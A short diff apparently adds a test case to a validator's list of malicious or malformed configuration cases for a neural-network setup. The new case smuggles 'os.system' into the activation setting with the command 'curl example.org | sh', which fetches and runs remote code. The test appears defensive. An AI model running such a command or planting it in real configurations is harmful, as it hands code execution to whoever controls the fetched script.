@@ -144,6 +144,15 @@ CASES: list[Case] = [
         "a patch that the network can't halve",
         of_configuration(lambda c: c.update(patch_size=[40, 41])),
     ),
+    changed(
+        "P008",
+        "a command for an activation",
+        of_configuration(
+            lambda c: c["architecture"]["arch_kwargs"].update(
+                nonlin="os.system", nonlin_kwargs={"command": "curl example.org | sh"}
+            )
+        ),
+    ),
     *logged(
         "V001",
         "a path in a log",
